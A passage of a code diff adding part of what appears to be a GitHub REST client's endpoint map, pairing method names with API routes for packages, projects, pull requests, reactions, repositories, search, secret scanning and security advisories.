+    ],
+    listDockerMigrationConflictingPackagesForAuthenticatedUser: [
+      "GET /user/docker/conflicts"
+    ],
+    listDockerMigrationConflictingPackagesForOrganization: [
+      "GET /orgs/{org}/docker/conflicts"
+    ],
+    listDockerMigrationConflictingPackagesForUser: [
+      "GET /users/{username}/docker/conflicts"
+    ],
+    listPackagesForAuthenticatedUser: ["GET /user/packages"],
+    listPackagesForOrganization: ["GET /orgs/{org}/packages"],
+    listPackagesForUser: ["GET /users/{username}/packages"],
+    restorePackageForAuthenticatedUser: [
+      "POST /user/packages/{package_type}/{package_name}/restore{?token}"
+    ],
+    restorePackageForOrg: [
+      "POST /orgs/{org}/packages/{package_type}/{package_name}/restore{?token}"
+    ],
+    restorePackageForUser: [
+      "POST /users/{username}/packages/{package_type}/{package_name}/restore{?token}"
+    ],
+    restorePackageVersionForAuthenticatedUser: [
+      "POST /user/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
+    ],
+    restorePackageVersionForOrg: [
+      "POST /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
+    ],
+    restorePackageVersionForUser: [
+      "POST /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
+    ]
+  },
+  privateRegistries: {
+    createOrgPrivateRegistry: ["POST /orgs/{org}/private-registries"],
+    deleteOrgPrivateRegistry: [
+      "DELETE /orgs/{org}/private-registries/{secret_name}"
+    ],
+    getOrgPrivateRegistry: ["GET /orgs/{org}/private-registries/{secret_name}"],
+    getOrgPublicKey: ["GET /orgs/{org}/private-registries/public-key"],
+    listOrgPrivateRegistries: ["GET /orgs/{org}/private-registries"],
+    updateOrgPrivateRegistry: [
+      "PATCH /orgs/{org}/private-registries/{secret_name}"
+    ]
+  },
+  projects: {
+    addItemForOrg: ["POST /orgs/{org}/projectsV2/{project_number}/items"],
+    addItemForUser: [
+      "POST /users/{username}/projectsV2/{project_number}/items"
+    ],
+    deleteItemForOrg: [
+      "DELETE /orgs/{org}/projectsV2/{project_number}/items/{item_id}"
+    ],
+    deleteItemForUser: [
+      "DELETE /users/{username}/projectsV2/{project_number}/items/{item_id}"
+    ],
+    getFieldForOrg: [
+      "GET /orgs/{org}/projectsV2/{project_number}/fields/{field_id}"
+    ],
+    getFieldForUser: [
+      "GET /users/{username}/projectsV2/{project_number}/fields/{field_id}"
+    ],
+    getForOrg: ["GET /orgs/{org}/projectsV2/{project_number}"],
+    getForUser: ["GET /users/{username}/projectsV2/{project_number}"],
+    getOrgItem: ["GET /orgs/{org}/projectsV2/{project_number}/items/{item_id}"],
+    getUserItem: [
+      "GET /users/{username}/projectsV2/{project_number}/items/{item_id}"
+    ],
+    listFieldsForOrg: ["GET /orgs/{org}/projectsV2/{project_number}/fields"],
+    listFieldsForUser: [
+      "GET /users/{username}/projectsV2/{project_number}/fields"
+    ],
+    listForOrg: ["GET /orgs/{org}/projectsV2"],
+    listForUser: ["GET /users/{username}/projectsV2"],
+    listItemsForOrg: ["GET /orgs/{org}/projectsV2/{project_number}/items"],
+    listItemsForUser: [
+      "GET /users/{username}/projectsV2/{project_number}/items"
+    ],
+    updateItemForOrg: [
+      "PATCH /orgs/{org}/projectsV2/{project_number}/items/{item_id}"
+    ],
+    updateItemForUser: [
+      "PATCH /users/{username}/projectsV2/{project_number}/items/{item_id}"
+    ]
+  },
+  pulls: {
+    checkIfMerged: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
+    create: ["POST /repos/{owner}/{repo}/pulls"],
+    createReplyForReviewComment: [
+      "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies"
+    ],
+    createReview: ["POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
+    createReviewComment: [
+      "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments"
+    ],
+    deletePendingReview: [
+      "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
+    ],
+    deleteReviewComment: [
+      "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}"
+    ],
+    dismissReview: [
+      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/dismissals"
+    ],
+    get: ["GET /repos/{owner}/{repo}/pulls/{pull_number}"],
+    getReview: [
+      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
+    ],
+    getReviewComment: ["GET /repos/{owner}/{repo}/pulls/comments/{comment_id}"],
+    list: ["GET /repos/{owner}/{repo}/pulls"],
+    listCommentsForReview: [
+      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments"
+    ],
+    listCommits: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/commits"],
+    listFiles: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/files"],
+    listRequestedReviewers: [
+      "GET /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
+    ],
+    listReviewComments: [
+      "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments"
+    ],
+    listReviewCommentsForRepo: ["GET /repos/{owner}/{repo}/pulls/comments"],
+    listReviews: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
+    merge: ["PUT /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
+    removeRequestedReviewers: [
+      "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
+    ],
+    requestReviewers: [
+      "POST /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
+    ],
+    submitReview: [
+      "POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/events"
+    ],
+    update: ["PATCH /repos/{owner}/{repo}/pulls/{pull_number}"],
+    updateBranch: [
+      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/update-branch"
+    ],
+    updateReview: [
+      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
+    ],
+    updateReviewComment: [
+      "PATCH /repos/{owner}/{repo}/pulls/comments/{comment_id}"
+    ]
+  },
+  rateLimit: { get: ["GET /rate_limit"] },
+  reactions: {
+    createForCommitComment: [
+      "POST /repos/{owner}/{repo}/comments/{comment_id}/reactions"
+    ],
+    createForIssue: [
+      "POST /repos/{owner}/{repo}/issues/{issue_number}/reactions"
+    ],
+    createForIssueComment: [
+      "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
+    ],
+    createForPullRequestReviewComment: [
+      "POST /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
+    ],
+    createForRelease: [
+      "POST /repos/{owner}/{repo}/releases/{release_id}/reactions"
+    ],
+    createForTeamDiscussionCommentInOrg: [
+      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
+    ],
+    createForTeamDiscussionInOrg: [
+      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
+    ],
+    deleteForCommitComment: [
+      "DELETE /repos/{owner}/{repo}/comments/{comment_id}/reactions/{reaction_id}"
+    ],
+    deleteForIssue: [
+      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/reactions/{reaction_id}"
+    ],
+    deleteForIssueComment: [
+      "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions/{reaction_id}"
+    ],
+    deleteForPullRequestComment: [
+      "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions/{reaction_id}"
+    ],
+    deleteForRelease: [
+      "DELETE /repos/{owner}/{repo}/releases/{release_id}/reactions/{reaction_id}"
+    ],
+    deleteForTeamDiscussion: [
+      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions/{reaction_id}"
+    ],
+    deleteForTeamDiscussionComment: [
+      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions/{reaction_id}"
+    ],
+    listForCommitComment: [
+      "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions"
+    ],
+    listForIssue: ["GET /repos/{owner}/{repo}/issues/{issue_number}/reactions"],
+    listForIssueComment: [
+      "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
+    ],
+    listForPullRequestReviewComment: [
+      "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
+    ],
+    listForRelease: [
+      "GET /repos/{owner}/{repo}/releases/{release_id}/reactions"
+    ],
+    listForTeamDiscussionCommentInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
+    ],
+    listForTeamDiscussionInOrg: [
+      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
+    ]
+  },
+  repos: {
+    acceptInvitation: [
+      "PATCH /user/repository_invitations/{invitation_id}",
+      {},
+      { renamed: ["repos", "acceptInvitationForAuthenticatedUser"] }
+    ],
+    acceptInvitationForAuthenticatedUser: [
+      "PATCH /user/repository_invitations/{invitation_id}"
+    ],
+    addAppAccessRestrictions: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
+      {},
+      { mapToData: "apps" }
+    ],
+    addCollaborator: ["PUT /repos/{owner}/{repo}/collaborators/{username}"],
+    addStatusCheckContexts: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
+      {},
+      { mapToData: "contexts" }
+    ],
+    addTeamAccessRestrictions: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
+      {},
+      { mapToData: "teams" }
+    ],
+    addUserAccessRestrictions: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
+      {},
+      { mapToData: "users" }
+    ],
+    cancelPagesDeployment: [
+      "POST /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}/cancel"
+    ],
+    checkAutomatedSecurityFixes: [
+      "GET /repos/{owner}/{repo}/automated-security-fixes"
+    ],
+    checkCollaborator: ["GET /repos/{owner}/{repo}/collaborators/{username}"],
+    checkImmutableReleases: ["GET /repos/{owner}/{repo}/immutable-releases"],
+    checkPrivateVulnerabilityReporting: [
+      "GET /repos/{owner}/{repo}/private-vulnerability-reporting"
+    ],
+    checkVulnerabilityAlerts: [
+      "GET /repos/{owner}/{repo}/vulnerability-alerts"
+    ],
+    codeownersErrors: ["GET /repos/{owner}/{repo}/codeowners/errors"],
+    compareCommits: ["GET /repos/{owner}/{repo}/compare/{base}...{head}"],
+    compareCommitsWithBasehead: [
+      "GET /repos/{owner}/{repo}/compare/{basehead}"
+    ],
+    createAttestation: ["POST /repos/{owner}/{repo}/attestations"],
+    createAutolink: ["POST /repos/{owner}/{repo}/autolinks"],
+    createCommitComment: [
+      "POST /repos/{owner}/{repo}/commits/{commit_sha}/comments"
+    ],
+    createCommitSignatureProtection: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
+    ],
+    createCommitStatus: ["POST /repos/{owner}/{repo}/statuses/{sha}"],
+    createDeployKey: ["POST /repos/{owner}/{repo}/keys"],
+    createDeployment: ["POST /repos/{owner}/{repo}/deployments"],
+    createDeploymentBranchPolicy: [
+      "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
+    ],
+    createDeploymentProtectionRule: [
+      "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
+    ],
+    createDeploymentStatus: [
+      "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
+    ],
+    createDispatchEvent: ["POST /repos/{owner}/{repo}/dispatches"],
+    createForAuthenticatedUser: ["POST /user/repos"],
+    createFork: ["POST /repos/{owner}/{repo}/forks"],
+    createInOrg: ["POST /orgs/{org}/repos"],
+    createOrUpdateEnvironment: [
+      "PUT /repos/{owner}/{repo}/environments/{environment_name}"
+    ],
+    createOrUpdateFileContents: ["PUT /repos/{owner}/{repo}/contents/{path}"],
+    createOrgRuleset: ["POST /orgs/{org}/rulesets"],
+    createPagesDeployment: ["POST /repos/{owner}/{repo}/pages/deployments"],
+    createPagesSite: ["POST /repos/{owner}/{repo}/pages"],
+    createRelease: ["POST /repos/{owner}/{repo}/releases"],
+    createRepoRuleset: ["POST /repos/{owner}/{repo}/rulesets"],
+    createUsingTemplate: [
+      "POST /repos/{template_owner}/{template_repo}/generate"
+    ],
+    createWebhook: ["POST /repos/{owner}/{repo}/hooks"],
+    customPropertiesForReposCreateOrUpdateRepositoryValues: [
+      "PATCH /repos/{owner}/{repo}/properties/values"
+    ],
+    customPropertiesForReposGetRepositoryValues: [
+      "GET /repos/{owner}/{repo}/properties/values"
+    ],
+    declineInvitation: [
+      "DELETE /user/repository_invitations/{invitation_id}",
+      {},
+      { renamed: ["repos", "declineInvitationForAuthenticatedUser"] }
+    ],
+    declineInvitationForAuthenticatedUser: [
+      "DELETE /user/repository_invitations/{invitation_id}"
+    ],
+    delete: ["DELETE /repos/{owner}/{repo}"],
+    deleteAccessRestrictions: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
+    ],
+    deleteAdminBranchProtection: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
+    ],
+    deleteAnEnvironment: [
+      "DELETE /repos/{owner}/{repo}/environments/{environment_name}"
+    ],
+    deleteAutolink: ["DELETE /repos/{owner}/{repo}/autolinks/{autolink_id}"],
+    deleteBranchProtection: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection"
+    ],
+    deleteCommitComment: ["DELETE /repos/{owner}/{repo}/comments/{comment_id}"],
+    deleteCommitSignatureProtection: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
+    ],
+    deleteDeployKey: ["DELETE /repos/{owner}/{repo}/keys/{key_id}"],
+    deleteDeployment: [
+      "DELETE /repos/{owner}/{repo}/deployments/{deployment_id}"
+    ],
+    deleteDeploymentBranchPolicy: [
+      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
+    ],
+    deleteFile: ["DELETE /repos/{owner}/{repo}/contents/{path}"],
+    deleteInvitation: [
+      "DELETE /repos/{owner}/{repo}/invitations/{invitation_id}"
+    ],
+    deleteOrgRuleset: ["DELETE /orgs/{org}/rulesets/{ruleset_id}"],
+    deletePagesSite: ["DELETE /repos/{owner}/{repo}/pages"],
+    deletePullRequestReviewProtection: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
+    ],
+    deleteRelease: ["DELETE /repos/{owner}/{repo}/releases/{release_id}"],
+    deleteReleaseAsset: [
+      "DELETE /repos/{owner}/{repo}/releases/assets/{asset_id}"
+    ],
+    deleteRepoRuleset: ["DELETE /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
+    deleteWebhook: ["DELETE /repos/{owner}/{repo}/hooks/{hook_id}"],
+    disableAutomatedSecurityFixes: [
+      "DELETE /repos/{owner}/{repo}/automated-security-fixes"
+    ],
+    disableDeploymentProtectionRule: [
+      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
+    ],
+    disableImmutableReleases: [
+      "DELETE /repos/{owner}/{repo}/immutable-releases"
+    ],
+    disablePrivateVulnerabilityReporting: [
+      "DELETE /repos/{owner}/{repo}/private-vulnerability-reporting"
+    ],
+    disableVulnerabilityAlerts: [
+      "DELETE /repos/{owner}/{repo}/vulnerability-alerts"
+    ],
+    downloadArchive: [
+      "GET /repos/{owner}/{repo}/zipball/{ref}",
+      {},
+      { renamed: ["repos", "downloadZipballArchive"] }
+    ],
+    downloadTarballArchive: ["GET /repos/{owner}/{repo}/tarball/{ref}"],
+    downloadZipballArchive: ["GET /repos/{owner}/{repo}/zipball/{ref}"],
+    enableAutomatedSecurityFixes: [
+      "PUT /repos/{owner}/{repo}/automated-security-fixes"
+    ],
+    enableImmutableReleases: ["PUT /repos/{owner}/{repo}/immutable-releases"],
+    enablePrivateVulnerabilityReporting: [
+      "PUT /repos/{owner}/{repo}/private-vulnerability-reporting"
+    ],
+    enableVulnerabilityAlerts: [
+      "PUT /repos/{owner}/{repo}/vulnerability-alerts"
+    ],
+    generateReleaseNotes: [
+      "POST /repos/{owner}/{repo}/releases/generate-notes"
+    ],
+    get: ["GET /repos/{owner}/{repo}"],
+    getAccessRestrictions: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
+    ],
+    getAdminBranchProtection: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
+    ],
+    getAllDeploymentProtectionRules: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
+    ],
+    getAllEnvironments: ["GET /repos/{owner}/{repo}/environments"],
+    getAllStatusCheckContexts: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts"
+    ],
+    getAllTopics: ["GET /repos/{owner}/{repo}/topics"],
+    getAppsWithAccessToProtectedBranch: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps"
+    ],
+    getAutolink: ["GET /repos/{owner}/{repo}/autolinks/{autolink_id}"],
+    getBranch: ["GET /repos/{owner}/{repo}/branches/{branch}"],
+    getBranchProtection: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection"
+    ],
+    getBranchRules: ["GET /repos/{owner}/{repo}/rules/branches/{branch}"],
+    getClones: ["GET /repos/{owner}/{repo}/traffic/clones"],
+    getCodeFrequencyStats: ["GET /repos/{owner}/{repo}/stats/code_frequency"],
+    getCollaboratorPermissionLevel: [
+      "GET /repos/{owner}/{repo}/collaborators/{username}/permission"
+    ],
+    getCombinedStatusForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/status"],
+    getCommit: ["GET /repos/{owner}/{repo}/commits/{ref}"],
+    getCommitActivityStats: ["GET /repos/{owner}/{repo}/stats/commit_activity"],
+    getCommitComment: ["GET /repos/{owner}/{repo}/comments/{comment_id}"],
+    getCommitSignatureProtection: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
+    ],
+    getCommunityProfileMetrics: ["GET /repos/{owner}/{repo}/community/profile"],
+    getContent: ["GET /repos/{owner}/{repo}/contents/{path}"],
+    getContributorsStats: ["GET /repos/{owner}/{repo}/stats/contributors"],
+    getCustomDeploymentProtectionRule: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
+    ],
+    getDeployKey: ["GET /repos/{owner}/{repo}/keys/{key_id}"],
+    getDeployment: ["GET /repos/{owner}/{repo}/deployments/{deployment_id}"],
+    getDeploymentBranchPolicy: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
+    ],
+    getDeploymentStatus: [
+      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses/{status_id}"
+    ],
+    getEnvironment: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}"
+    ],
+    getLatestPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/latest"],
+    getLatestRelease: ["GET /repos/{owner}/{repo}/releases/latest"],
+    getOrgRuleSuite: ["GET /orgs/{org}/rulesets/rule-suites/{rule_suite_id}"],
+    getOrgRuleSuites: ["GET /orgs/{org}/rulesets/rule-suites"],
+    getOrgRuleset: ["GET /orgs/{org}/rulesets/{ruleset_id}"],
+    getOrgRulesets: ["GET /orgs/{org}/rulesets"],
+    getPages: ["GET /repos/{owner}/{repo}/pages"],
+    getPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/{build_id}"],
+    getPagesDeployment: [
+      "GET /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}"
+    ],
+    getPagesHealthCheck: ["GET /repos/{owner}/{repo}/pages/health"],
+    getParticipationStats: ["GET /repos/{owner}/{repo}/stats/participation"],
+    getPullRequestReviewProtection: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
+    ],
+    getPunchCardStats: ["GET /repos/{owner}/{repo}/stats/punch_card"],
+    getReadme: ["GET /repos/{owner}/{repo}/readme"],
+    getReadmeInDirectory: ["GET /repos/{owner}/{repo}/readme/{dir}"],
+    getRelease: ["GET /repos/{owner}/{repo}/releases/{release_id}"],
+    getReleaseAsset: ["GET /repos/{owner}/{repo}/releases/assets/{asset_id}"],
+    getReleaseByTag: ["GET /repos/{owner}/{repo}/releases/tags/{tag}"],
+    getRepoRuleSuite: [
+      "GET /repos/{owner}/{repo}/rulesets/rule-suites/{rule_suite_id}"
+    ],
+    getRepoRuleSuites: ["GET /repos/{owner}/{repo}/rulesets/rule-suites"],
+    getRepoRuleset: ["GET /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
+    getRepoRulesetHistory: [
+      "GET /repos/{owner}/{repo}/rulesets/{ruleset_id}/history"
+    ],
+    getRepoRulesetVersion: [
+      "GET /repos/{owner}/{repo}/rulesets/{ruleset_id}/history/{version_id}"
+    ],
+    getRepoRulesets: ["GET /repos/{owner}/{repo}/rulesets"],
+    getStatusChecksProtection: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
+    ],
+    getTeamsWithAccessToProtectedBranch: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams"
+    ],
+    getTopPaths: ["GET /repos/{owner}/{repo}/traffic/popular/paths"],
+    getTopReferrers: ["GET /repos/{owner}/{repo}/traffic/popular/referrers"],
+    getUsersWithAccessToProtectedBranch: [
+      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users"
+    ],
+    getViews: ["GET /repos/{owner}/{repo}/traffic/views"],
+    getWebhook: ["GET /repos/{owner}/{repo}/hooks/{hook_id}"],
+    getWebhookConfigForRepo: [
+      "GET /repos/{owner}/{repo}/hooks/{hook_id}/config"
+    ],
+    getWebhookDelivery: [
+      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}"
+    ],
+    listActivities: ["GET /repos/{owner}/{repo}/activity"],
+    listAttestations: [
+      "GET /repos/{owner}/{repo}/attestations/{subject_digest}"
+    ],
+    listAutolinks: ["GET /repos/{owner}/{repo}/autolinks"],
+    listBranches: ["GET /repos/{owner}/{repo}/branches"],
+    listBranchesForHeadCommit: [
+      "GET /repos/{owner}/{repo}/commits/{commit_sha}/branches-where-head"
+    ],
+    listCollaborators: ["GET /repos/{owner}/{repo}/collaborators"],
+    listCommentsForCommit: [
+      "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments"
+    ],
+    listCommitCommentsForRepo: ["GET /repos/{owner}/{repo}/comments"],
+    listCommitStatusesForRef: [
+      "GET /repos/{owner}/{repo}/commits/{ref}/statuses"
+    ],
+    listCommits: ["GET /repos/{owner}/{repo}/commits"],
+    listContributors: ["GET /repos/{owner}/{repo}/contributors"],
+    listCustomDeploymentRuleIntegrations: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps"
+    ],
+    listDeployKeys: ["GET /repos/{owner}/{repo}/keys"],
+    listDeploymentBranchPolicies: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
+    ],
+    listDeploymentStatuses: [
+      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
+    ],
+    listDeployments: ["GET /repos/{owner}/{repo}/deployments"],
+    listForAuthenticatedUser: ["GET /user/repos"],
+    listForOrg: ["GET /orgs/{org}/repos"],
+    listForUser: ["GET /users/{username}/repos"],
+    listForks: ["GET /repos/{owner}/{repo}/forks"],
+    listInvitations: ["GET /repos/{owner}/{repo}/invitations"],
+    listInvitationsForAuthenticatedUser: ["GET /user/repository_invitations"],
+    listLanguages: ["GET /repos/{owner}/{repo}/languages"],
+    listPagesBuilds: ["GET /repos/{owner}/{repo}/pages/builds"],
+    listPublic: ["GET /repositories"],
+    listPullRequestsAssociatedWithCommit: [
+      "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls"
+    ],
+    listReleaseAssets: [
+      "GET /repos/{owner}/{repo}/releases/{release_id}/assets"
+    ],
+    listReleases: ["GET /repos/{owner}/{repo}/releases"],
+    listTags: ["GET /repos/{owner}/{repo}/tags"],
+    listTeams: ["GET /repos/{owner}/{repo}/teams"],
+    listWebhookDeliveries: [
+      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries"
+    ],
+    listWebhooks: ["GET /repos/{owner}/{repo}/hooks"],
+    merge: ["POST /repos/{owner}/{repo}/merges"],
+    mergeUpstream: ["POST /repos/{owner}/{repo}/merge-upstream"],
+    pingWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/pings"],
+    redeliverWebhookDelivery: [
+      "POST /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
+    ],
+    removeAppAccessRestrictions: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
+      {},
+      { mapToData: "apps" }
+    ],
+    removeCollaborator: [
+      "DELETE /repos/{owner}/{repo}/collaborators/{username}"
+    ],
+    removeStatusCheckContexts: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
+      {},
+      { mapToData: "contexts" }
+    ],
+    removeStatusCheckProtection: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
+    ],
+    removeTeamAccessRestrictions: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
+      {},
+      { mapToData: "teams" }
+    ],
+    removeUserAccessRestrictions: [
+      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
+      {},
+      { mapToData: "users" }
+    ],
+    renameBranch: ["POST /repos/{owner}/{repo}/branches/{branch}/rename"],
+    replaceAllTopics: ["PUT /repos/{owner}/{repo}/topics"],
+    requestPagesBuild: ["POST /repos/{owner}/{repo}/pages/builds"],
+    setAdminBranchProtection: [
+      "POST /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
+    ],
+    setAppAccessRestrictions: [
+      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
+      {},
+      { mapToData: "apps" }
+    ],
+    setStatusCheckContexts: [
+      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
+      {},
+      { mapToData: "contexts" }
+    ],
+    setTeamAccessRestrictions: [
+      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
+      {},
+      { mapToData: "teams" }
+    ],
+    setUserAccessRestrictions: [
+      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
+      {},
+      { mapToData: "users" }
+    ],
+    testPushWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/tests"],
+    transfer: ["POST /repos/{owner}/{repo}/transfer"],
+    update: ["PATCH /repos/{owner}/{repo}"],
+    updateBranchProtection: [
+      "PUT /repos/{owner}/{repo}/branches/{branch}/protection"
+    ],
+    updateCommitComment: ["PATCH /repos/{owner}/{repo}/comments/{comment_id}"],
+    updateDeploymentBranchPolicy: [
+      "PUT /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
+    ],
+    updateInformationAboutPagesSite: ["PUT /repos/{owner}/{repo}/pages"],
+    updateInvitation: [
+      "PATCH /repos/{owner}/{repo}/invitations/{invitation_id}"
+    ],
+    updateOrgRuleset: ["PUT /orgs/{org}/rulesets/{ruleset_id}"],
+    updatePullRequestReviewProtection: [
+      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
+    ],
+    updateRelease: ["PATCH /repos/{owner}/{repo}/releases/{release_id}"],
+    updateReleaseAsset: [
+      "PATCH /repos/{owner}/{repo}/releases/assets/{asset_id}"
+    ],
+    updateRepoRuleset: ["PUT /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
+    updateStatusCheckPotection: [
+      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks",
+      {},
+      { renamed: ["repos", "updateStatusCheckProtection"] }
+    ],
+    updateStatusCheckProtection: [
+      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
+    ],
+    updateWebhook: ["PATCH /repos/{owner}/{repo}/hooks/{hook_id}"],
+    updateWebhookConfigForRepo: [
+      "PATCH /repos/{owner}/{repo}/hooks/{hook_id}/config"
+    ],
+    uploadReleaseAsset: [
+      "POST /repos/{owner}/{repo}/releases/{release_id}/assets{?name,label}",
+      { baseUrl: "https://uploads.github.com" }
+    ]
+  },
+  search: {
+    code: ["GET /search/code"],
+    commits: ["GET /search/commits"],
+    issuesAndPullRequests: ["GET /search/issues"],
+    labels: ["GET /search/labels"],
+    repos: ["GET /search/repositories"],
+    topics: ["GET /search/topics"],
+    users: ["GET /search/users"]
+  },
+  secretScanning: {
+    createPushProtectionBypass: [
+      "POST /repos/{owner}/{repo}/secret-scanning/push-protection-bypasses"
+    ],
+    getAlert: [
+      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
+    ],
+    getScanHistory: ["GET /repos/{owner}/{repo}/secret-scanning/scan-history"],
+    listAlertsForOrg: ["GET /orgs/{org}/secret-scanning/alerts"],
+    listAlertsForRepo: ["GET /repos/{owner}/{repo}/secret-scanning/alerts"],
+    listLocationsForAlert: [
+      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations"
+    ],
+    listOrgPatternConfigs: [
+      "GET /orgs/{org}/secret-scanning/pattern-configurations"
+    ],
+    updateAlert: [
+      "PATCH /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
+    ],
+    updateOrgPatternConfigs: [
+      "PATCH /orgs/{org}/secret-scanning/pattern-configurations"
+    ]
+  },
+  securityAdvisories: {
+    createFork: [
+      "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/forks"
+    ],
+    createPrivateVulnerabilityReport: [
+      "POST /repos/{owner}/{repo}/security-advisories/reports"
+    ],
+    createRepositoryAdvisory: [
